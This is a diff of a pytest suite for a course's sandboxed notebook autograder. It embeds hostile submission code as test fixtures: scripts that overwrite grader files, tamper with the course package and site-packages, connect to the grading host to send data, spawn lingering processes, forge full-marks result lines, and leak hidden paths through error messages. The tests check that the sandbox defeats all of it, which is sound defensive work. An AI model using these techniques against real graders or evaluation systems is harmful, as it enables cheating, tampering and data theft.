@@ -1,21 +1,29 @@
-"""`make grade` against an adversarial class (lesson 3): honest, other-correct, stub, partial, raising,
-``os._exit``, looping and broken submissions, and attackers graded before their victims. Every test
-asserts the honest outcome. The notebooks are lesson 3's setup cell, answer cells and check cells only
-(the lesson's demonstrations would only cost time), and so is the reference the grader compares with."""
+"""`make grade` against an adversarial class (lesson 3), and every lesson's probes against its reference.
+
+The class: a partly done notebook (q3 the untouched stub) whose q2 raises and which loops after q4's check,
+one that leaves by ``os._exit`` (q3's answer deleted), an attacker (hunts the grader's files, calls home,
+leaves processes, patches the runner, forges result lines, puts what it finds in its error messages), and
+two victims graded after it (wrong answers; other right answers under a browser's copy name); broken files
+beside them. Every test asserts the honest outcome. The notebooks are the lesson's setup cell, answer cells
+and check cells only (the lesson's demonstrations would only cost time), and so is the reference the grader
+compares with.
+"""
 
 from __future__ import annotations
 
 import csv
 import hashlib
 import json
+import socket
 import subprocess
 import sys
 import time
+from pathlib import Path
 
 import nbformat
 import psutil
 import pytest
-from conftest import ROOT
+from conftest import LESSONS, ROOT
 from notebook_harness import hidden_lines, load, questions
 from wrong_answers import ALTERNATIVES, WRONG
 
@@ -24,142 +32,175 @@ pytestmark = pytest.mark.notebook  # grading executes notebooks
 LESSON = "03_double_quant"
 FULL = {"q1": 1, "q2": 2, "q3": 2, "q4": 1, "q5": 2}
 NONE = dict.fromkeys(FULL, 0)
-LIMITS = dict(cpu=60, wall=400, memory_gb=8.0)  # the setup cell and five answers need a fraction of this
+LIMITS = dict(cpu=30, wall=400, memory_gb=8.0)  # a trimmed notebook needs a third of this CPU time
 MARK = "qlora-grading-attack"  # in every process an attacker starts, to find leftovers
+CHECK = r"""\s*grader\.check\(\s*["'](\w+)["']\s*\)\s*"""
+# cells besides the setup cell that a trimmed notebook keeps: they build what tests and probes read
+CONTEXT = {"04_memory": "course_cfg = model.config", "05_qlora_finetune": "data = load_task_data(profile)"}
 
 
-def _solution():
-    return load(ROOT / "solutions" / f"{LESSON}.ipynb")
+def points_of(lesson: str) -> dict[str, float]:
+    import build_notebooks
+
+    return build_notebooks.grading_reference(ROOT / "solutions" / f"{lesson}.ipynb")[1]
 
 
-def _setup_cell() -> str:
-    student = load(ROOT / "notebooks" / f"{LESSON}.ipynb")
-    return next(c.source for c in student.cells if c.cell_type == "code")
+def solved(lesson: str = LESSON, **replace: str) -> dict[str, str]:
+    return {**questions(load(ROOT / "solutions" / f"{lesson}.ipynb")), **replace}
 
 
-def notebook(answers: dict[str, str], extra: dict[str, str] | None = None) -> nbformat.NotebookNode:
-    """A lesson-3 submission: the setup cell, then per question its answer cell (the stub when not in
-    ``answers``), its check cell and the code in ``extra[q]`` (``extra["start"]`` before the first)."""
+def notebook(answers: dict[str, str], extra: dict[str, str] | None = None, lesson: str = LESSON, full: bool = False):
+    """A submission of ``lesson``: its student notebook with the answer cell of each question ``q`` in
+    ``answers`` replaced by ``answers[q]`` (the others keep the stub) and the code ``extra[q]`` added after
+    q's check cell (``extra["start"]`` after the setup cell). Trimmed to the setup cell, the ``CONTEXT``
+    cell, answer and check cells unless ``full``."""
+    import re
+
     extra = extra or {}
-    student = load(ROOT / "notebooks" / f"{LESSON}.ipynb")
-    stubs = [c.source for c in student.cells if "otter_answer_cell" in c.get("metadata", {}).get("tags", [])]
-    cells = [_setup_cell()] + ([extra["start"]] if "start" in extra else [])
-    for q, stub in zip(FULL, stubs, strict=True):
-        cells += [answers.get(q, stub), f'grader.check("{q}")'] + ([extra[q]] if q in extra else [])
+    student = load(ROOT / "notebooks" / f"{lesson}.ipynb")
+    code = [i for i, c in enumerate(student.cells) if c.cell_type == "code"]
+    checks = {i: m.group(1) for i in code if (m := re.fullmatch(CHECK, student.cells[i].source))}
+    cells = []
+    for i, cell in enumerate(student.cells):
+        if cell.cell_type != "code":
+            if full:
+                cells.append(nbformat.v4.new_markdown_cell(cell.source))
+            continue
+        if "otter_answer_cell" in cell.get("metadata", {}).get("tags", []):
+            q = checks[min(j for j in checks if j > i)]  # an answer cell's question: the next check cell's
+            answer = answers.get(q)
+            cells.append(nbformat.v4.new_code_cell(cell.source if answer is None else answer))
+        elif i in checks or i == code[0] or full or CONTEXT.get(lesson, "\0") in cell.source:
+            cells.append(nbformat.v4.new_code_cell(cell.source))
+        for key in [checks.get(i)] + (["start"] if i == code[0] else []):
+            if key in extra:
+                cells.append(nbformat.v4.new_code_cell(extra[key]))
     nb = nbformat.v4.new_notebook()
-    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells if c is not None]
+    nb.cells = cells
     return nb
 
 
-def _solved(**replace):
-    return {**questions(_solution()), **replace}
-
-
-def _references(tmp_path_factory):
-    """A lesson-3 reference like build/grading's, cut to the setup, solution and check cells."""
-    import build_notebooks
-
-    folder = tmp_path_factory.mktemp("references")
-    (folder / LESSON).mkdir()
-    _, points = build_notebooks.grading_reference(ROOT / "solutions" / f"{LESSON}.ipynb")
-    nbformat.write(notebook(_solved()), folder / LESSON / "reference.ipynb")
-    (folder / LESSON / "questions.json").write_text(json.dumps(points))
+def _references(folder: Path, lessons) -> Path:
+    """References like build/grading's, cut to the setup, context, solution and check cells."""
+    for lesson in lessons:
+        (folder / lesson).mkdir(parents=True)
+        nbformat.write(notebook(solved(lesson), lesson=lesson), folder / lesson / "reference.ipynb")
+        (folder / lesson / "questions.json").write_text(json.dumps(points_of(lesson)))
     return folder
 
 
-ESCAPE = f"""
-import glob, os, pathlib, subprocess, sys
-# look for the grader's folders: other submissions, the gradebook, the course, the build
-found = []
-for pid in os.listdir('/proc'):
-    try:
-        found.append(open(f'/proc/{{pid}}/cmdline', 'rb').read())
-    except Exception:
-        pass
-for pattern in ('/tmp/**/*.ipynb', '/work/**/gradebook.csv', '/**/qlora-submission-*', '/**/build/grading/**'):
-    for path in glob.glob(pattern, recursive=True)[:50]:
-        try:
-            pathlib.Path(path).write_text('{{}}')
-        except Exception:
-            pass
-for path in glob.glob('/**/qlora_course/*.py', recursive=True)[:50]:
-    try:
-        with open(path, 'a') as f:
-            f.write('\\nimport builtins; builtins.__import__ = None\\n')
-    except Exception:
-        pass
-# a process meant to outlive grading
-subprocess.Popen([sys.executable, '-c', 'import time, sys; sys.argv.append("{MARK}"); time.sleep(600)'],
-                 start_new_session=True)
-if os.fork() == 0:
-    os.setsid()
-    import time
-    time.sleep(600)
-"""
-
-LEAK = """
-import glob, os
-secrets = []
-for root in ('/grader', '/submission', '/work', '/tmp', '/root'):
-  for path in glob.glob(root + '/**', recursive=True):
-    if 'reference' in path or 'autograder' in path or 'HIDDEN' in path:
-      secrets.append(path)
-seen = []
-def centre_and_scale(absmax, blocksize=256):
-    seen.append(absmax)
-    raise AssertionError('offset is the mean of all constants ' + repr(absmax.tolist()[:5]) + repr(secrets))
-"""
-
-PATCH = """
-import doctest, json, os, sys
-doctest.DocTestRunner.run = lambda self, *a, **k: doctest.TestResults(0, 0)
-import otter.test_files as tf
-tf.OKTestFile.run = lambda self, *a, **k: None
-class AlwaysEqual:
-    def __eq__(self, other): return True
-    def __bool__(self): return True
-    def __getattr__(self, name): return self
-forged = {"q1": {"(128,)": 0.25}, "q2": {"map": {"tensor": "torch.float32", "shape": [256], "data": ""}}}
-for fd in range(1, 30):
-    for q in ("q1", "q2", "q3", "q4", "q5"):
-        for event in ({"event": "public", "q": q, "passed": True, "error": None},
-                      {"event": "probe", "q": q, "values": forged.get(q, {})}):
+# hunts the grader's folders (their real paths: it knows them), tampers with the course package and the
+# environment, calls a listener on the grading machine, starts processes meant to outlive grading
+ESCAPE = """
+import os, socket, subprocess, sys
+for top in {targets!r}:
+    for folder, _, files in os.walk(top):
+        for name in files[:200] + ["forged.json"]:
             try:
-                os.write(fd, (json.dumps(event) + "\\n").encode())
+                with open(os.path.join(folder, name), "w") as f:
+                    f.write("{{}}")
             except OSError:
                 pass
+for path in {tamper!r}:
+    try:
+        with open(path, "a") as f:
+            f.write("\\n# tampered\\n")
+    except OSError:
+        pass
+for host in {hosts!r}:
+    try:
+        socket.create_connection((host, {port}), timeout=2).sendall(b"leak")
+    except OSError:
+        pass
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{mark}"], start_new_session=True)
+if os.fork() == 0:
+    os.setsid()
+    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{mark}"])
+"""
+
+# replaces the runner's probes and comparison, and writes result lines claiming full marks to every pipe
+# it can find (at the start; after the last check, where they come last, forged values only)
+FORGE = """
+import json, os, stat, sys
+gp = sys.modules.get("grade_probes")
+if gp is not None:
+    gp.same = lambda *a, **k: True
+    for _q in list(gp.PROBES["03_double_quant"]):
+        gp.PROBES["03_double_quant"][_q] = lambda ns, g: {"forged": True}
+forged = {"q1": {"(128,)": 0.25}, "q2": {"map": {"tensor": "torch.float32", "shape": [256], "data": ""}}}
+for fd in range(1, 64):
+    try:
+        if not stat.S_ISFIFO(os.fstat(fd).st_mode):
+            continue
+        for q in ("q1", "q2", "q3", "q4", "q5"):
+            for event in ({"event": "public", "q": q, "passed": True, "error": None},
+                          {"event": "probe", "q": q, "values": forged.get(q, {})})[{first}:]:
+                os.write(fd, (json.dumps(event) + "\\n").encode())
+    except OSError:
+        pass
+"""
+
+# its q3 answer: reads what it can and puts it in the message of the error it raises
+LEAK = """
+import glob
+tops = ("/grader", "/submission", "/tmp", {references!r})
+secrets = [p for top in tops for p in glob.glob(top + "/**", recursive=True)]
+def centre_and_scale(absmax, blocksize=256):
+    raise AssertionError("offset is the mean of all constants " + repr(absmax.tolist()[:5]) + repr(secrets))
 """
 
 
-def _submissions(root):
-    """The class, on disk; returns the submissions whose source is the solution (for the leak test)."""
+def _site_packages() -> Path:
+    import torch
+
+    return Path(torch.__file__).parents[1]
+
+
+def _class(root: Path, out: Path, references: Path, port: int) -> None:
+    """The class on disk (students sorted by name are graded in that order: the victims last)."""
     wrong = {q: answers[0] for q, answers in WRONG[LESSON].items()}
-    alt = {q: answers[0] for q, answers in ALTERNATIVES[LESSON].items() if answers}
+    hosts = ["127.0.0.1"]
+    try:
+        hosts.append(socket.gethostbyname(socket.gethostname()))  # the grading machine's own address
+    except OSError:
+        pass
+    escape = ESCAPE.format(
+        targets=[str(out), str(root), str(references), str(ROOT / "build"), "/tmp"],
+        tamper=[str(p) for p in sorted((ROOT / "src" / "qlora_course").glob("*.py"))]
+        + [str(_site_packages() / "qlora_tampered.pth")],
+        hosts=hosts,
+        port=port,
+        mark=MARK,
+    )
     class_ = {
-        "alice": notebook(_solved()),  # honest
-        "alt": notebook(_solved(**alt)),  # other right answers
-        "bob": notebook({}),  # the untouched stub
-        "carol": notebook({"q1": _solved()["q1"]}),  # partly done
-        "dave": notebook(_solved(q2="def dynamic_map_signed():\n    raise RuntimeError('a bug in my answer')\n")),
-        "erin": notebook(_solved(), {"q2": "import os\nos._exit(0)\n"}),  # leaves after q2's check
-        "ada": notebook(_solved(), {"q1": "while True:\n    pass\n"}),  # an endless loop after q1
-        "frank": notebook(_solved(q5="")),  # deleted the last answer
-        "mallory": notebook(wrong, {"start": ESCAPE}),  # hunts the grader's files, leaves processes
-        "mallory2": notebook(_solved(), {"start": LEAK}),  # reads what it can, puts it in its errors
-        "mallory3": notebook(wrong, {"start": PATCH}),  # patches the test runners, forges results
-        "yan": notebook({}),  # victims, graded after the attackers
-        "zoe": notebook(_solved()),
+        # partly done: q1 and q4 answered, q2's answer raises, q3 the stub, an endless loop after q4's check
+        "carol": notebook(
+            solved(q2="def dynamic_map_signed():\n    raise RuntimeError('a bug in my answer')\n", q3=None),
+            {"q4": "while True:\n    pass\n"},
+        ),
+        # q3's answer deleted, leaves by os._exit after q4's check
+        "erin": notebook(solved(q3=""), {"q4": "import os\nos._exit(0)\n"}),
+        "mallory": notebook(
+            {**wrong, "q3": LEAK.format(references=str(references))},
+            {"start": escape + FORGE.replace("{first}", "0"), "q5": FORGE.replace("{first}", "1")},
+        ),
+        "yan": notebook(wrong),  # victims, graded after the attacker: the first of WRONG's answers
     }
     for name, nb in class_.items():
         (root / name).mkdir(parents=True)
         nbformat.write(nb, root / name / f"{LESSON}.ipynb")
-    (root / "ivan").mkdir()
-    nbformat.write(notebook(_solved()), root / "ivan" / "03_Double_Quant (1).ipynb")  # a browser's copy
-    (root / "gina").mkdir()
+    (root / "zoe").mkdir()
+    alternatives = {q: answers[0] for q, answers in ALTERNATIVES[LESSON].items()}  # other right answers
+    nbformat.write(notebook(alternatives), root / "zoe" / "03_Double_Quant (1).ipynb")  # a browser's copy
+    (root / "gina" / "old").mkdir(parents=True)
     (root / "gina" / f"{LESSON}.ipynb").write_text("")
     (root / "gina" / "notes.txt").write_text("not a submission")
+    (root / "gina" / "old" / f"{LESSON}.ipynb").write_text("{}")
     (root / "hal").mkdir()
     (root / "hal" / f"{LESSON}.ipynb").write_text("import torch\nprint('my answers')\n")
+    (root / "hal" / f"{LESSON} (2).ipynb").write_text("{}")
+    (root / "ivan").mkdir()
+    (root / "ivan" / f"{LESSON}.ipynb").write_text('{"cells": 5}')
     (root / "stray.ipynb").write_text("{}")
 
 
@@ -170,61 +211,87 @@ def _source_hash() -> str:
     return h.hexdigest()
 
 
+def _rows(out: Path) -> list[dict]:
+    return list(csv.DictReader(open(out / "gradebook.csv", encoding="utf-8")))
+
+
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
     import grade
 
-    references = _references(tmp_path_factory)
-    root = tmp_path_factory.mktemp("submissions")
-    _submissions(root)
-    out = tmp_path_factory.mktemp("grades")
+    references = _references(tmp_path_factory.mktemp("references"), [LESSON])
+    root, out = tmp_path_factory.mktemp("submissions"), tmp_path_factory.mktemp("grades")
+    listener = socket.create_server(("0.0.0.0", 0))
+    listener.setblocking(False)
+    _class(root, out, references, listener.getsockname()[1])
     before = _source_hash()
-    start = time.monotonic()
     results = grade.grade_all(root, out, grade.Limits(**LIMITS), jobs=2, references=references, progress=False)
-    seconds = time.monotonic() - start
     time.sleep(2)  # give anything left behind a chance to act
-    rows = list(csv.DictReader(open(out / "gradebook.csv", encoding="utf-8")))
-    return dict(results=results, rows=rows, out=out, root=root, references=references, before=before, s=seconds)
+    try:
+        listener.accept()
+        called = True
+    except BlockingIOError:
+        called = False
+    listener.close()
+    return dict(
+        results=results, rows=_rows(out), out=out, root=root, references=references, before=before, called=called
+    )
 
 
-def _points(rows, student):
-    return {r["question"]: float(r["points"]) for r in rows if r["student"] == student and r["question"]}
+def _points(rows, student, lesson=LESSON):
+    return {
+        r["question"]: float(r["points"])
+        for r in rows
+        if r["student"] == student and r["lesson"] == lesson and r["question"]
+    }
 
 
-def test_honest_outcomes(graded):
+def test_each_answer_is_graded_on_its_own(graded):
     rows = graded["rows"]
-    assert _points(rows, "alice") == FULL and _points(rows, "zoe") == FULL
-    assert _points(rows, "alt") == FULL  # other right answers score
-    assert _points(rows, "ivan") == FULL  # misnamed "03_Double_Quant (1).ipynb": matched
-    assert _points(rows, "bob") == NONE and _points(rows, "yan") == NONE
-    assert _points(rows, "carol") == {**NONE, "q1": 1}
-    assert _points(rows, "dave") == {**FULL, "q2": 0}  # q2 raises: the other answers keep their points
-    assert _points(rows, "erin") == {**NONE, "q1": 1, "q2": 2}  # os._exit after q2: q1 and q2 kept
-    assert _points(rows, "ada") == {**NONE, "q1": 1}  # loops after q1: stopped by the CPU limit, q1 kept
-    assert _points(rows, "frank") == {**FULL, "q5": 0}
+    # q2 raises, q3 is the stub, the loop after q4's check is stopped by the CPU limit: q1 and q4 kept
+    assert _points(rows, "carol") == {**NONE, "q1": 1, "q4": 1}
+    assert _points(rows, "erin") == {**FULL, "q3": 0, "q5": 0}  # q3 deleted, os._exit after q4's check
     assert {r["status"] for r in rows if r["question"]} == {"graded"}
+    carol = next(r for r in graded["results"] if r.student == "carol")
+    assert carol.note.startswith("stopped") and "the answer raised RuntimeError" in carol.feedback["q2"]
 
 
 def test_attacks_score_nothing_and_harm_nobody(graded):
     rows = graded["rows"]
-    assert _points(rows, "mallory") == NONE  # wrong answers, whatever it wrote
-    assert _points(rows, "mallory3") == NONE  # patched runners and forged results change nothing
-    assert _points(rows, "mallory2") == {**FULL, "q3": 0}  # its own q3 raises
+    assert _points(rows, "mallory") == NONE  # wrong answers, whatever it patched or wrote
+    assert _points(rows, "yan") == NONE and _points(rows, "zoe") == FULL  # the victims, graded after it
+    # zoe: other right answers, in "03_Double_Quant (1).ipynb", a browser's copy: matched
+    yan = next(r for r in graded["results"] if r.student == "yan")  # wrong answers, each caught by its probe
+    assert all("results differ" in text for text in yan.feedback.values()), yan.feedback
     assert _source_hash() == graded["before"], "the course or the grader was modified"
+    assert not (_site_packages() / "qlora_tampered.pth").exists(), "the environment was modified"
+    assert not list(graded["references"].rglob("forged.json")) and not list(graded["root"].rglob("forged.json"))
+    assert not graded["called"], "a submission reached the network"
     leftovers = [p for p in psutil.process_iter(["cmdline"]) if MARK in " ".join(p.info["cmdline"] or [])]
     assert not leftovers, "a submission's process outlived its grading"
-    again = list(csv.DictReader(open(graded["out"] / "gradebook.csv", encoding="utf-8")))
-    assert again == rows and not [r for r in rows if r["student"] == "quinn"]
 
 
 def test_every_file_has_a_row(graded):
     rows = graded["rows"]
-    status = {(r["student"], r["lesson"]): r["status"] for r in rows if not r["question"]}
-    assert status[("gina", LESSON)].startswith("not graded: the file is empty")
-    assert "not a notebook" in status[("gina", "notes.txt")]
-    assert status[("hal", LESSON)].startswith("not graded: not a Jupyter notebook (not JSON")
-    assert "not in a student's folder" in status[("", "stray.ipynb")]
-    assert not [s for s in status.values() if "/" in s.split("(")[0] or str(ROOT) in s]  # no paths
+    status = sorted((r["student"], r["lesson"], r["status"]) for r in rows if not r["question"])
+    assert status == sorted(
+        [
+            ("", "stray.ipynb", "not graded: not in a student's folder (stray.ipynb)"),
+            ("gina", LESSON, f"not graded: the file is empty ({LESSON}.ipynb)"),
+            ("gina", "notes.txt", "not graded: not a notebook (.ipynb) (notes.txt)"),
+            ("gina", f"old/{LESSON}.ipynb", f"not graded: in a subfolder (old/{LESSON}.ipynb)"),
+            (
+                "hal",
+                LESSON,
+                "not graded: not a Jupyter notebook (not JSON: a renamed script, or a damaged download?) "
+                f"({LESSON}.ipynb)",
+            ),
+            ("hal", LESSON, f"not graded: {LESSON}.ipynb was graded for {LESSON} ({LESSON} (2).ipynb)"),
+            ("ivan", LESSON, f"not graded: not a Jupyter notebook (JSON without notebook cells) ({LESSON}.ipynb)"),
+        ]
+    )  # one line each, no instructor's paths
+    graded_files = {(r["student"], r["lesson"]) for r in rows if r["question"]}
+    assert graded_files == {(s, LESSON) for s in ("carol", "erin", "mallory", "yan", "zoe")}
     assert (graded["out"] / "STATUS").read_text().startswith("complete")
 
 
@@ -232,7 +299,7 @@ def test_feedback_shows_no_hidden_inputs_or_tests(graded):
     out = graded["out"]
     hidden = [
         line
-        for cell in _solution().cells
+        for cell in load(ROOT / "solutions" / f"{LESSON}.ipynb").cells
         if cell.source.startswith("# HIDDEN")
         for line in hidden_lines(">>> " + "\n>>> ".join(cell.source.splitlines()))
         if len(line) > 30
@@ -240,54 +307,118 @@ def test_feedback_shows_no_hidden_inputs_or_tests(graded):
     for feedback in (out / "feedback").glob("*.md"):
         text = feedback.read_text()
         assert not [line for line in hidden if line in text], feedback.name
-        assert "reference" not in text and "[0." not in text and str(ROOT) not in text, feedback.name
-    mallory2 = (out / "feedback" / "mallory2.md").read_text()
-    assert "offset is the mean of all constants" in mallory2  # the public message, its fixed part only
-    alice = (out / "feedback" / "alice.md").read_text()
-    assert "8 / 8 points" in alice and "hidden tests: passed" in alice
+        assert "reference" not in text and "[0." not in text and "/tmp" not in text, feedback.name
+        assert str(ROOT) not in text and "/grader" not in text and "/submission" not in text, feedback.name
+    mallory = (out / "feedback" / "mallory.md").read_text()
+    assert "offset is the mean of all constants..." in mallory  # the public message, its fixed part only
+    zoe = (out / "feedback" / "zoe.md").read_text()
+    assert "8 / 8 points" in zoe and "hidden tests: passed" in zoe
 
 
-def test_a_later_run_grades_victims_honestly_and_resumes(graded, tmp_path):
-    """After the attacks: a new run on the same folder reuses every result; victims in a new class
-    are graded from scratch, honestly."""
+def test_a_rerun_resumes_and_regrades_the_victims_honestly(graded):
+    """A second run on the same folders, after the attack: it reuses every finished result, and grades
+    again from scratch what is missing (zoe's) or was marked for regrading (yan's)."""
     import grade
 
-    limits = grade.Limits(**LIMITS)
+    out, limits = graded["out"], grade.Limits(**LIMITS)
     start = time.monotonic()
-    grade.grade_all(graded["root"], graded["out"], limits, jobs=2, references=graded["references"], progress=False)
+    grade.grade_all(graded["root"], out, limits, jobs=2, references=graded["references"], progress=False)
     assert time.monotonic() - start < 30  # nothing ran again
-    assert list(csv.DictReader(open(graded["out"] / "gradebook.csv", encoding="utf-8"))) == graded["rows"]
-    root = tmp_path / "later"
-    for name in ("alice", "bob"):
-        (root / name).mkdir(parents=True)
-        (root / name / f"{LESSON}.ipynb").write_bytes((graded["root"] / name / f"{LESSON}.ipynb").read_bytes())
-    grade.grade_all(root, tmp_path / "out", limits, jobs=2, references=graded["references"], progress=False)
-    rows = list(csv.DictReader(open(tmp_path / "out" / "gradebook.csv", encoding="utf-8")))
-    assert _points(rows, "alice") == FULL and _points(rows, "bob") == NONE
+    assert _rows(out) == graded["rows"]
+    (out / "results" / "zoe" / f"{LESSON}.json").unlink()
+    record = out / "results" / "yan" / f"{LESSON}.json"
+    kept = json.loads(record.read_text())
+    kept["result"].update(status="needs regrading: the machine was too busy", points=FULL)  # a stale record
+    record.write_text(json.dumps(kept))
+    written = {p.parent.name: p.stat().st_mtime_ns for p in (out / "results").glob(f"*/{LESSON}.json")}
+    grade.grade_all(graded["root"], out, limits, jobs=2, references=graded["references"], progress=False)
+    rewritten = {
+        p.parent.name
+        for p in (out / "results").glob(f"*/{LESSON}.json")
+        if p.stat().st_mtime_ns != written.get(p.parent.name)
+    }
+    assert rewritten == {"yan", "zoe"}
+    assert _rows(out) == graded["rows"]
+    assert _points(_rows(out), "yan") == NONE and _points(_rows(out), "zoe") == FULL
 
 
-def test_wall_clock_backstop_tells_waiting_from_starved(tmp_path):
+def test_regrading_marks_the_run_incomplete(tmp_path):
     import grade
 
-    limits = grade.Limits(cpu=300, wall=20)
-    for name, code, ended in (
-        ("sleeps", "import time\nwhile True:\n    time.sleep(1)\n", "stopped: it waited"),
-        ("computes", "while True:\n    pass\n", "needs regrading"),
+    done = grade.Result("ann", f"{LESSON}.ipynb", LESSON, points=dict(FULL), feedback=dict.fromkeys(FULL, ""))
+    busy = grade.Result("ben", f"{LESSON}.ipynb", LESSON, status="needs regrading: the machine was too busy")
+    busy.points, busy.feedback = dict(NONE), dict.fromkeys(FULL, "")
+    grade.write_gradebook([done, busy], {LESSON: FULL}, tmp_path)
+    status = (tmp_path / "STATUS").read_text()
+    assert status.startswith("incomplete") and "ben" in status and "ann" not in status
+
+
+def test_sandbox_and_wall_clock_backstop(tmp_path):
+    """What a notebook sees inside the sandbox (it reports it as a result line), and the wall-clock
+    backstop: a notebook that waits is stopped and graded as far as it got; one still computing when the
+    machine is busy is marked for regrading."""
+    import grade
+
+    listener = socket.create_server(("0.0.0.0", 0))
+    listener.setblocking(False)
+    report = f"""
+import json, os, resource, socket, stat
+facts = {{"uid": os.getuid(), "pids": [p for p in os.listdir("/proc") if p.isdigit()],
+         "cpu": resource.getrlimit(resource.RLIMIT_CPU)[0], "memory": resource.getrlimit(resource.RLIMIT_AS)[0],
+         "seen": [p for p in {[str(ROOT / "solutions"), str(ROOT / "build"), str(tmp_path), str(ROOT / ".git")]!r}
+                  if os.path.exists(p)]}}
+for path in {[str(ROOT / "src" / "qlora_course" / "tampered.py"), str(_site_packages() / "tampered.py"), "mine"]!r}:
+    try:
+        open(path, "w").close()
+        facts[path] = "written"
+    except OSError:
+        facts[path] = "denied"
+try:
+    socket.create_connection(("127.0.0.1", {listener.getsockname()[1]}), timeout=2)
+    facts["network"] = "connected"
+except OSError:
+    facts["network"] = "unreachable"
+for fd in range(3, 64):
+    try:
+        if stat.S_ISFIFO(os.fstat(fd).st_mode):
+            os.write(fd, (json.dumps({{"event": "facts", **facts}}) + "\\n").encode())
+    except OSError:
+        pass
+"""
+    for name, code, limits, ended in (
+        (
+            "sleeps",
+            [report, "import time\nwhile True:\n    time.sleep(1)\n"],
+            grade.Limits(cpu=300, wall=30),
+            "stopped: it waited",
+        ),
+        ("computes", ["while True:\n    pass\n"], grade.Limits(cpu=300, wall=10), "needs regrading"),
     ):
         nb = nbformat.v4.new_notebook()
-        nb.cells = [nbformat.v4.new_code_cell(code)]
+        nb.cells = [nbformat.v4.new_code_cell(c) for c in code]
         nbformat.write(nb, tmp_path / f"{name}.ipynb")
-        _, how = grade.run_notebook(tmp_path / f"{name}.ipynb", LESSON, "salt", limits, unsafe=False)
+        events, how = grade.run_notebook(tmp_path / f"{name}.ipynb", LESSON, "salt", limits, unsafe=False)
         assert how.startswith(ended), (name, how)
+        if name == "sleeps":
+            (facts,) = [e for e in events if e["event"] == "facts"]
+            assert facts["uid"] == 65534 and len(facts["pids"]) <= 3, facts  # nobody, its own processes
+            assert facts["cpu"] == 300 and facts["memory"] == 8 << 30, facts
+            assert facts["seen"] == [], facts  # the hidden tests, the build, other folders: not there
+            assert facts[str(ROOT / "src" / "qlora_course" / "tampered.py")] == "denied", facts  # read-only
+            assert facts[str(_site_packages() / "tampered.py")] == "denied", facts
+            assert facts["mine"] == "written" and facts["network"] == "unreachable", facts  # its own folder
+    with pytest.raises(BlockingIOError):
+        listener.accept()
+    listener.close()
 
 
 def test_a_killed_run_leaves_no_gradebook_looking_current(tmp_path, graded):
     out = tmp_path / "grades"
     out.mkdir()
     (out / "gradebook.csv").write_text("student,lesson,question,points,max_points,status\nold,row,q1,1,1,graded\n")
-    root = tmp_path / "subs" / "alice"
+    root = tmp_path / "subs" / "zoe"
     root.mkdir(parents=True)
-    (root / f"{LESSON}.ipynb").write_bytes((graded["root"] / "alice" / f"{LESSON}.ipynb").read_bytes())
+    (root / f"{LESSON}.ipynb").write_bytes((graded["root"] / "zoe" / "03_Double_Quant (1).ipynb").read_bytes())
     cmd = [sys.executable, str(ROOT / "tools" / "grade.py"), str(tmp_path / "subs"), "--out", str(out)]
     proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
     deadline = time.monotonic() + 120
@@ -299,6 +430,36 @@ def test_a_killed_run_leaves_no_gradebook_looking_current(tmp_path, graded):
     proc.wait()
     assert not (out / "gradebook.csv").exists()
     assert (out / "STATUS").read_text().startswith("incomplete")
+
+
+def test_every_lesson_grades_right_answers_full_and_wrong_ones_zero(tmp_path):
+    """Each lesson through the real sandboxed runner: a notebook with the other right answers
+    (``ALTERNATIVES``) scores every point against the reference solution; one carrying the first of
+    ``WRONG``'s answers for every question scores nothing, each caught by its probe (hidden tests), not
+    only by the public tests. Lesson 3's are the class's victims, zoe and yan."""
+    import grade
+
+    lessons = [lesson for lesson in LESSONS if lesson != LESSON]
+    references = _references(tmp_path / "references", lessons)
+    for lesson in lessons:
+        for student, answers in (
+            ("alt", {q: a[0] for q, a in ALTERNATIVES[lesson].items()}),
+            ("wrong", {q: a[0] for q, a in WRONG[lesson].items()}),
+        ):
+            assert set(answers) == set(points_of(lesson)), (lesson, student)
+            (tmp_path / "subs" / student).mkdir(parents=True, exist_ok=True)
+            nbformat.write(notebook(answers, lesson=lesson), tmp_path / "subs" / student / f"{lesson}.ipynb")
+    limits = grade.Limits(cpu=120, wall=1200)
+    results = grade.grade_all(
+        tmp_path / "subs", tmp_path / "out", limits, jobs=2, references=references, progress=False
+    )
+    by = {(r.student, r.lesson): r for r in results}
+    for lesson in lessons:
+        maximum = points_of(lesson)
+        alt, wrong = by[("alt", lesson)], by[("wrong", lesson)]
+        assert alt.points == maximum and not alt.note, (lesson, alt.feedback)
+        assert wrong.points == dict.fromkeys(maximum, 0.0), (lesson, wrong.points)
+        assert all("hidden tests: passed" not in text for text in wrong.feedback.values()), (lesson, wrong.feedback)
 
 
 def test_grader_refuses_without_a_sandbox(tmp_path, monkeypatch):
@@ -326,12 +487,10 @@ def test_misnamed_files_are_matched_when_unambiguous():
 
 
 def test_every_question_has_a_probe():
-    import build_notebooks
     from grade_probes import PROBES
 
-    for solution in sorted((ROOT / "solutions").glob("[0-9][0-9]_*.ipynb")):
-        _, points = build_notebooks.grading_reference(solution)
-        assert set(PROBES[solution.stem]) == set(points), solution.stem
+    for lesson in LESSONS:
+        assert set(PROBES[lesson]) == set(points_of(lesson)), lesson
 
 
 def test_results_compare_as_data():
